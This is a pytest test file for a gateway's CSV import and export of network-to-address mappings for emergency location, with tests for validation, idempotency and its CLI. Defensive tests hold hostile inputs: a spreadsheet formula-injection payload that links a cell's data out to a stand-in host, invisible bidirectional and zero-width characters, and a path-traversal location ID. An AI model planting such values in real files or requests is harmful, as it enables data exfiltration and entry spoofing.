"""The wiremap CSV: reading with every bad row named, import (dry run, skip-invalid,
idempotent), export, and the round trip; the ``dlr-gateway network`` commands."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.bandwidth.models import Address
from gateway.cli import main
from gateway.dlr.address import normalize
from gateway.network.csvfile import COLUMNS, MAX_FIELD, read, write
from gateway.network.importer import import_csv
from gateway.network.service import MemoryWiremapStore, Wiremap
from tests.network.observe import observe

HEADER = ",".join(COLUMNS)
WH = "1600,,,PENNSYLVANIA,AVE,NW,WASHINGTON,DC,20500,US"

#: A file in the export's own form (canonical values, the export's order): the round trip
#: gives it back byte for byte.
CANONICAL = (
    "\n".join(
        [
            HEADER,
            f",AA-BB-CC-DD-EE-1*,,,,lobby APs,{WH},FL 1",
            f",,SW-CORE-1,Gi1/0/7,,desk 7,{WH},FL 3 RM 301",
            f"10.1.0.0/16,,,,,,{WH},FL 3",
            f"2001:db8:1::/48,,,,,,{WH},FL 5",
            f",,00-11-22-33-44-55,,,,{WH},FL 2",
        ]
    )
    + "\n"
)

#: A file as people write them: the columns they need, any order, spellings of their own.
TEAMS = (
    "Subnet,Description,LocationId,HouseNumber,StreetName,City,StateOrProvince,PostalCode,"
    "Location,BSSID,ChassisID,PortID\n"
    '10.1.0.0/16,,,1600,"Pennsylvania Ave NW",Washington,DC,20500,Floor 3,,,\n'
    ",lobby,,1600,Pennsylvania Ave NW,Washington,DC,20500,Floor 1,aa:bb:cc:dd:ee:1*,,\n"
    ",,,1600,Pennsylvania Ave NW,Washington,DC,20500,Room 7,,sw-core-1,Gi1/0/7\n"
)


def wiremap() -> Wiremap:
    return Wiremap(MemoryWiremapStore(), normalize)


def run(coro):  # type: ignore[no-untyped-def]
    return asyncio.run(coro)


def test_export_of_an_import_equals_it() -> None:
    async def main_() -> None:
        first = wiremap()
        result = await import_csv(first, CANONICAL.encode())
        assert result.errors == [] and result.written
        assert write(first.entries()) == CANONICAL
        # A file as written by hand exports canonical, and that export round-trips too.
        second = wiremap()
        await import_csv(second, TEAMS.encode())
        exported = write(second.entries())
        assert "AA-BB-CC-DD-EE-1*" in exported and "FL 3" in exported
        third = wiremap()
        await import_csv(third, exported.encode())
        assert write(third.entries()) == exported

    run(main_())


def test_importing_twice_changes_nothing() -> None:
    async def main_() -> None:
        held = wiremap()
        first = await import_csv(held, TEAMS.encode())
        assert first.applied is not None and first.applied.created == 3
        version = held.version
        again = await import_csv(held, TEAMS.encode())
        assert again.applied is not None
        assert (again.applied.created, again.applied.updated, again.applied.unchanged) == (0, 0, 3)
        assert held.version == version

    run(main_())


def test_exported_cells_never_run_as_formulas_and_round_trip() -> None:
    """Free text (a description, a chassis or port ID) a spreadsheet would run as a formula
    is exported behind a quote, and importing the export gives back the same wiremap."""
    hostile = (
        f"{HEADER}\n"
        f',,-SW-2,@port,,"=HYPERLINK(""http://x.example/?""&A1)",{WH},FL 3\n'
        f",,+SW-3,,,''=quoted,{WH},FL 4\n"  # a value that starts with a quote
    )

    async def main_() -> None:
        first = wiremap()
        assert (await import_csv(first, hostile.encode())).errors == []
        assert {(e.key, e.port_id, e.description) for e in first.entries()} == {
            ("-SW-2", "@port", '=HYPERLINK("http://x.example/?"&A1)'),
            ("+SW-3", None, "'=quoted"),
        }
        exported = write(first.entries())
        for row in csv.reader(io.StringIO(exported)):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
        second = wiremap()
        assert (await import_csv(second, exported.encode())).errors == []
        assert second.entries() == first.entries()

    run(main_())


BAD = (
    "Subnet,BSSID,ChassisID,PortID,HouseNumber,StreetName,City,StateOrProvince,PostalCode\n"
    "10.1.2.3/16,,,,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    ",AA-BB-CC-DD-EE-*,,,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    ",AA-BB-CC-DD-EE-1*,,,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    "10.9.0.0/16,,,,,PO Box 5,Washington,DC,20500\n"
    ",,,7,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    "10.8.0.0/16,,,,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    "10.8.0.0/16,,,,1600,Pennsylvania Ave NW,Washington,DC,20500\n"
    f"10.7.0.0/16,,,,1600,{'X' * (MAX_FIELD + 1)},Washington,DC,20500\n"
    "10.6.0.0/16,,,,1600,Pennsylvania Ave NW,Washington,DC\n"
    "10.5.0.0/16,,,,1600,Pennsylvania Ave NW,Wash\x07ington,DC,20500\n"
)


def test_every_bad_row_is_named_and_nothing_is_written() -> None:
    async def main_() -> None:
        held = wiremap()
        result = await import_csv(held, BAD.encode())
        found = {(e.line, e.field) for e in result.errors}
        # Host bits set: read as the network (10.1.0.0/16), said in a warning.
        assert [(w.line, w.field) for w in result.warnings] == [(2, "Subnet")]
        assert "10.1.0.0/16" in result.warnings[0].reason
        assert (4, "BSSID") in found  # overlaps line 3's wildcard
        assert any(line == 5 for line, _ in found)  # a PO box is not dispatchable
        assert (6, "Subnet") in found  # no element given
        assert (8, "Subnet") in found  # the same subnet as line 7
        assert (9, "StreetName") in found  # too long
        assert (10, "row") in found  # a field short
        assert (11, "City") in found  # a control character (the normalizer would drop it)
        assert not result.written and len(held.index) == 0
        skipping = await import_csv(held, BAD.encode(), skip_invalid=True)
        assert skipping.written
        assert {e.key for e in held.entries()} == {
            "10.1.0.0/16",
            "AA-BB-CC-DD-EE-*",
            "10.8.0.0/16",
        }

    run(main_())


def test_invisible_format_characters_are_a_named_line_error() -> None:
    """A bidirectional override or a zero-width character in a chassis ID, port ID or
    description shows the entry as another in the console and the export: refused, as the
    API refuses them, on the line and column that holds it."""
    rows = (
        f"{HEADER}\n"
        f",,sw-\u202e1-eroc,,,,{WH},\n"
        f",,sw-1,Gi1/0/\u200b7,,,{WH},\n"
        f",,sw-2,,,HQ \u2067floor\u2069,{WH},\n"
        f",,sw-3,,,HQ floor 3,{WH},\n"
    )

    async def main_() -> None:
        held = wiremap()
        result = await import_csv(held, rows.encode())
        found = {(e.line, e.field) for e in result.errors}
        assert found == {(2, "ChassisID"), (3, "PortID"), (4, "Description")}, result.errors
        assert all("format characters" in e.reason for e in result.errors)
        assert not result.written and len(held.index) == 0

    run(main_())


def test_dry_run_validates_and_counts_but_writes_nothing() -> None:
    async def main_() -> None:
        held = wiremap()
        result = await import_csv(held, CANONICAL.encode(), dry_run=True)
        assert result.applied is not None and result.applied.created == 5
        assert not result.written and len(held.index) == 0 and held.version == 0

    run(main_())


def test_location_id_rows_take_the_carriers_address() -> None:
    async def main_() -> None:
        held = wiremap()
        carrier = {"LOC1": Address(house_number="350", street_name="5TH", street_suffix="AVE",
                                    city="NEW YORK", state_code="NY", zip="10118")}  # fmt: skip

        asked: list[str] = []

        async def lookup(location_id: str) -> Address | None:
            asked.append(location_id)
            return carrier.get(location_id)

        data = b"Subnet,LocationId\n10.1.0.0/16,LOC1\n10.2.0.0/16,LOC404\n10.3.0.0/16,../x\n"
        result = await import_csv(held, data, lookup=lookup)
        assert [(e.line, e.field) for e in result.errors] == [(3, "LocationId"), (4, "LocationId")]
        # Not a carrier location ID: refused before the carrier is asked (its path).
        assert asked == ["LOC1", "LOC404"]
        result = await import_csv(held, data, lookup=lookup, skip_invalid=True)
        match = held.resolve(observe({"ip": "10.1.1.1"}))
        assert match is not None and match.entry.location_id == "LOC1"
        assert match.entry.address.zip == "10118"

    run(main_())


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"Nope,Subnet\n10.0.0.0/8\n",
        b"Subnet,Subnet\n",
        b"Description\nx\n",
        b"\xff\xfe",
    ],
)
def test_malformed_files_are_refused(data: bytes) -> None:
    try:
        rows, errors = read(data)
    except ValueError:
        return
    assert errors and not rows


def test_the_commands(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("GATEWAY_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'gw.db'}")
    source = tmp_path / "wiremap.csv"
    source.write_text(CANONICAL)
    assert main(["network", "import", str(source), "--dry-run"]) == 0
    assert "5 created, 0 updated, 0 unchanged would be applied" in capsys.readouterr().out
    assert main(["network", "export"]) == 0
    assert capsys.readouterr().out == HEADER + "\n"  # the dry run wrote nothing
    assert main(["network", "import", str(source)]) == 0
    captured = capsys.readouterr()
    assert "5 created" in captured.out and "written 5/5" in captured.err
    out = tmp_path / "out.csv"
    assert main(["network", "export", "--output", str(out)]) == 0
    assert out.read_text() == CANONICAL
    assert main(["network", "export", "--kind", "port"]) == 0
    assert capsys.readouterr().out.count("\n") == 2
    assert main(["network", "import", str(source)]) == 0
    assert "0 created, 0 updated, 5 unchanged" in capsys.readouterr().out
    bad = tmp_path / "bad.csv"
    bad.write_text(BAD)
    assert main(["network", "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "line 2: Subnet:" in err and "nothing written" in err
    assert main(["network", "import", str(tmp_path / "missing.csv")]) == 2
    capsys.readouterr()
    assert main(["network", "export", "--output", str(tmp_path)]) == 2  # a folder
    err = capsys.readouterr().err
    assert err.startswith(f"dlr-gateway: {tmp_path}: ") and "Traceback" not in err


def test_progress_is_plain_lines_off_a_terminal() -> None:
    from gateway.network_cli import _progress

    stream = io.StringIO()
    show = _progress(stream)
    for done in range(0, 10_001, 1000):
        show(done, 10_000)
    assert stream.getvalue().splitlines()[-1] == "written 10000/10000"


def test_a_file_past_the_row_limit_is_refused_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    from gateway.network import csvfile

    monkeypatch.setattr(csvfile, "MAX_ROWS", 4)
    four = "".join(CANONICAL.splitlines(keepends=True)[:5])
    assert len(read(four.encode())[0]) == 4
    with pytest.raises(csvfile.CsvTooLarge, match="more than 4 rows"):
        read(CANONICAL.encode())


@pytest.mark.parametrize(
    "broken",
    [
        '10.2.0.0/16,,,,,"desk 2,{WH},FL 2',  # a quote never closed: the rest of the file
        '10.2.0.0/16,,,,,"desk" 2,{WH},FL 2',  # text after a closing quote
        "10.2.0.0/16,,,,,{big},{WH},FL 2",  # past what the CSV reader holds for one field
    ],
)
def test_a_row_the_csv_reader_cannot_read_refuses_the_file_whole(broken: str) -> None:
    """The reader was lenient and stopped at its first error: an unclosed quote swallowed
    every later row into one cell (one bad row named), and a field past the reader's limit
    ended the reading there, so ``--skip-invalid`` applied the rows before it and left every
    later one out without a word. The file is now refused whole, naming the line."""
    from gateway.network.csvfile import CsvTooLarge

    rows = [
        HEADER,
        f"10.1.0.0/16,,,,,,{WH},FL 1",
        broken.format(WH=WH, big="x" * 200_000),
        f"10.3.0.0/16,,,,,,{WH},FL 3",
        f"10.4.0.0/16,,,,,,{WH},FL 4",
    ]
    data = ("\n".join(rows) + "\n").encode()

    async def main_() -> None:
        held = wiremap()
        with pytest.raises(CsvTooLarge, match="line 3"):
            await import_csv(held, data, skip_invalid=True)
        assert len(held.index) == 0

    run(main_())


def test_a_location_id_row_without_carrier_settings_says_which_are_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The README's example file has a ``LocationId`` row; on a machine without
    ``BANDWIDTH_*`` the import died with a traceback ("refusing unsafe account ID: ''")."""
    monkeypatch.setenv("GATEWAY_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'gw.db'}")
    for name in ("BANDWIDTH_ACCOUNT_ID", "BANDWIDTH_USERNAME", "BANDWIDTH_PASSWORD"):
        monkeypatch.delenv(name, raising=False)
    source = tmp_path / "wiremap.csv"
    source.write_text("ChassisID,LocationId,Description\n00-11-22-33-44-55,HQ1,core switch\n")
    assert main(["network", "import", str(source), "--dry-run"]) == 2
    err = capsys.readouterr().err
    assert "LocationId HQ1 is looked up at the carrier: BANDWIDTH_ACCOUNT_ID is not set" in err
    assert "Traceback" not in err


def test_a_new_embedded_database_is_made_without_alembics_chatter(tmp_path: Path) -> None:
    """``network export`` (or ``import``) in a fresh directory creates the embedded SQLite
    file: it printed alembic's "setup plugin ..." and "Running upgrade ..." lines first."""
    done = subprocess.run(
        [sys.executable, "-m", "gateway", "network", "export"],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(Path(__file__).parents[2])},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == HEADER + "\n"
    assert "setup plugin" not in done.stderr and "Running upgrade" not in done.stderr
